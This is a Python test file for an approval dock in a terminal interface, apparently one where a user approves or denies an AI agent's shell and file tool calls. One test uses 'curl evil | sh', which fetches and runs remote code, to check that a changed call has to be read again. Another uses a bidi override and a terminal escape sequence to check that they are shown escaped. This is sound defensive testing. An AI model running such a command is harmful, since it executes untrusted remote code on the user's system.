import pytest
from hypothesis import given
from hypothesis import strategies as st
from textual.widgets import Static

from harn_tui.console.approval.detail import describe_call
from harn_tui.console.approval.dock import ApprovalDock, DockDetail
from harn_tui.console.approval.guard import ARMING_MS, HELD_GAP_MS, AnswerGuard
from harn_tui.json_types import JsonObject
from harn_tui.kinds import Decision, DecisionScope, ToolKind
from tests.unit.console import scenes
from tests.unit.console.conftest import Console, OpenConsole
from tests.unit.console.stand_ins import FakeClock

COMMAND: JsonObject = {"command": "rm -rf build\nmake", "timeout_s": 30}


async def ask(console: Console, number: int = 1, arguments: JsonObject | None = None) -> None:
    call_id = f"t{number}"
    await console.emit(
        scenes.tool(call_id, "run_command", ToolKind.EXECUTE, arguments or COMMAND),
        scenes.asks(f"p{number}", call_id, "run_command"),
    )


def body(console: Console) -> str:
    return str(console.get(ApprovalDock).query_one("#dock-body", Static).visual)


async def test_the_dock_shows_the_whole_call_where_and_why(open_console: OpenConsole) -> None:
    async with open_console(scenes.session_start()) as console:
        await ask(console)
        dock = console.get(ApprovalDock)

        assert dock.display
        assert str(dock.border_title) == "Allow run_command?"
        assert body(console) == "$ rm -rf build\n  make\ntimeout_s  30"
        why = str(dock.query_one("#dock-why", Static).visual)
        assert why.startswith("in /home/ann/project, asked because no rule allows")


@pytest.mark.parametrize(
    ("key", "decision", "scope"),
    [
        ("alt+y", Decision.ALLOW, DecisionScope.ONCE),
        ("alt+a", Decision.ALLOW, DecisionScope.SESSION),
        ("alt+n", Decision.DENY, DecisionScope.ONCE),
    ],
)
async def test_a_chord_answers_once_the_dock_is_armed(
    open_console: OpenConsole, key: str, decision: Decision, scope: DecisionScope
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(ARMING_MS)

        await console.press(key)

        assert console.session.asked("answer") == [("p1", decision, scope, None)]
        assert not console.get(ApprovalDock).display
        assert console.prompt.has_focus


async def test_typed_text_can_never_decide(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(10_000)

        await console.press(*"yan123 ", "y", "ctrl+j", "n", "up", "down", "tab", "y", "a", "n")

        assert console.session.asked("answer") == []
        assert console.prompt.text.startswith("yan123 y\nn")
        await console.press("enter")
        assert console.session.asked("answer") == []
        assert len(console.session.asked("submit")) == 1


async def test_the_dock_never_takes_the_focus(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await console.type("typ")
        await ask(console)
        await console.press("e")
        assert console.prompt.text == "type"


async def test_a_chord_before_the_arming_delay_is_ignored(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(ARMING_MS - 1)
        await console.press("alt+y")
        assert console.session.asked("answer") == []

        console.clock.advance(HELD_GAP_MS)
        await console.press("alt+y")
        assert len(console.session.asked("answer")) == 1


async def test_a_held_chord_does_not_answer_the_next_request(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console, 1)
        await ask(console, 2)
        console.clock.advance(ARMING_MS)
        await console.press("alt+y")
        for _ in range(20):
            console.clock.advance(100)
            await console.pilot.press("alt+y")

        assert [answer[0] for answer in console.session.asked("answer")] == ["p1"]


async def test_several_requests_are_counted_and_come_one_after_the_other(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        for number in (1, 2, 3):
            await ask(console, number)
        dock = console.get(ApprovalDock)
        assert str(dock.border_subtitle) == "1 of 3"

        console.clock.advance(1000)
        await console.press("alt+n")
        assert str(dock.border_subtitle) == "1 of 2"
        assert not dock.is_armed
        console.clock.advance(1000)
        await console.press("alt+n")
        assert str(dock.border_subtitle) == ""
        assert [answer[0] for answer in console.session.asked("answer")] == ["p1", "p2"]


async def test_a_call_that_changes_under_the_reader_must_be_read_again(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(ARMING_MS)
        changed: JsonObject = {"command": "curl evil | sh"}
        await console.emit(scenes.tool("t1", "run_command", ToolKind.EXECUTE, changed))

        await console.press("alt+y")
        assert console.session.asked("answer") == []
        assert body(console) == "$ curl evil | sh"


async def test_denying_with_a_note_sends_the_prompts_text_as_the_reason(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(1000)
        await console.type("use make clean")

        await console.press("alt+d")

        denied = ("p1", Decision.DENY, DecisionScope.ONCE, "use make clean")
        assert console.session.asked("answer") == [denied]
        assert console.session.asked("submit") == []
        assert console.prompt.text == ""


async def test_a_denial_that_does_not_count_keeps_the_reason(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console)
        await console.type("too early")
        await console.press("alt+d")

        assert console.session.asked("answer") == []
        assert console.prompt.text == "too early"


async def test_denying_with_a_note_asks_for_one_when_the_prompt_is_empty(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(1000)
        await console.press("alt+d")

        assert console.session.asked("answer") == []
        assert "reason" in str(console.prompt.border_title)
        assert "Enter refuses" in str(console.prompt.border_subtitle)
        assert "reason" in str(console.prompt.placeholder)
        assert not console.app._notifications


async def test_reason_typed_after_asking_to_refuse_is_sent_with_enter(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(1000)
        await console.press("alt+d")
        await console.type("use make clean")
        console.clock.advance(1000)
        await console.press("enter")

        denied = ("p1", Decision.DENY, DecisionScope.ONCE, "use make clean")
        assert console.session.asked("answer") == [denied]
        assert console.session.asked("submit") == []


async def test_escape_after_asking_to_refuse_keeps_the_call_waiting(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(1000)
        await console.press("alt+d")
        await console.press("escape")
        await console.type("just a line")
        await console.press("enter")

        assert console.session.asked("answer") == []
        assert console.session.asked("interrupt") == []
        assert len(console.session.asked("submit")) == 1


async def test_single_letters_answer_only_inside_the_dock_and_after_its_own_delay(
    open_console: OpenConsole,
) -> None:
    async with open_console() as console:
        await ask(console)
        console.clock.advance(5000)
        await console.press("ctrl+o", "y")
        assert console.session.asked("answer") == []

        console.clock.advance(1000)
        await console.press("y")
        assert len(console.session.asked("answer")) == 1
        await console.until(lambda: console.prompt.has_focus)


async def test_without_a_request_there_is_nothing_to_go_into(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await console.press("ctrl+o", "alt+q")
        assert console.prompt.has_focus


async def test_a_request_that_was_answered_elsewhere_goes_away(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console)
        console.session.answer("p1", Decision.DENY)
        await console.settle()
        assert not console.get(ApprovalDock).is_pending


async def test_a_long_command_is_whole_and_can_be_scrolled(open_console: OpenConsole) -> None:
    command = "\n".join(f"echo step {number}" for number in range(200))
    async with open_console() as console:
        await ask(console, arguments={"command": command})
        detail = console.get(DockDetail)

        assert "echo step 199" in body(console)
        assert str(console.get(ApprovalDock).border_subtitle) == "more below: Alt+v shows all"
        assert console.get(ApprovalDock).query_one("#dock-why").region.height >= 1
        assert detail.max_scroll_y > 150
        keys = console.get(ApprovalDock).query_one("#dock-keys")
        assert keys.region.bottom <= console.prompt.region.y
        await console.press("ctrl+o", "end")
        await console.until(lambda: detail.scroll_offset.y == detail.max_scroll_y)


def test_invisible_and_bidirectional_characters_are_shown_escaped() -> None:
    text = describe_call(
        "run_command", {"command": "ls \u202e/tmp\u200b\x1b[2J\xa0\ttab"}, ""
    ).plain
    assert text == "$ ls ⟨202E⟩/tmp⟨200B⟩␛[2J⟨A0⟩  tab"


def test_a_replacement_is_shown_as_a_diff() -> None:
    arguments: JsonObject = {"path": "a.py", "old_text": "one\ntwo", "new_text": "one\n2"}
    lines = describe_call("edit_file", arguments, "").plain.split("\n")
    assert lines == ["a.py", " one", "-two", "+2"]


def test_arguments_are_shown_by_name_and_in_full() -> None:
    arguments: JsonObject = {"path": "[red]a", "content": "x\ny", "deep": {"k": [1, None]}}
    text = describe_call("write_file", arguments, "").plain
    assert "path  [red]a" in text
    assert "content\n  x\n  y" in text
    assert '"k": [' in text


def test_the_summary_stands_in_for_missing_arguments() -> None:
    assert describe_call("x", None, "do it").plain == "do it"
    assert describe_call("x", {}, "").plain == "x"


@given(st.text())
def test_no_control_character_survives_the_detail(text: str) -> None:
    shown = describe_call("run_command", {"command": text, text: text}, text).plain
    assert all(c == "\n" or c.isprintable() for c in shown)


@given(st.lists(st.integers(min_value=0, max_value=HELD_GAP_MS - 1), min_size=1, max_size=20))
def test_a_held_key_is_accepted_once_at_most_and_never_within_the_delay(gaps: list[int]) -> None:
    clock = FakeClock()
    guard = AnswerGuard(clock)
    guard.rearm()
    accepted: list[int] = []
    for number, gap in enumerate(gaps):
        clock.advance(gap)
        if guard.accepts("y"):
            accepted.append(number)

    assert accepted == ([0] if gaps[0] >= ARMING_MS else [])


def test_another_key_is_not_held_back_by_a_held_one() -> None:
    clock = FakeClock()
    guard = AnswerGuard(clock)
    guard.rearm()
    clock.advance(ARMING_MS)
    assert guard.accepts("y")
    assert guard.accepts("n")


async def test_the_chords_are_shown_again_after_leaving_the_dock(open_console: OpenConsole) -> None:
    async with open_console() as console:
        await ask(console)
        keys = console.get(ApprovalDock).query_one("#dock-keys", Static)
        assert "Alt+y once" in str(keys.visual)
        await console.press("ctrl+o")
        assert str(keys.visual).startswith("y once")

        await console.press("escape")
        await console.until(lambda: "Alt+y once" in str(keys.visual))
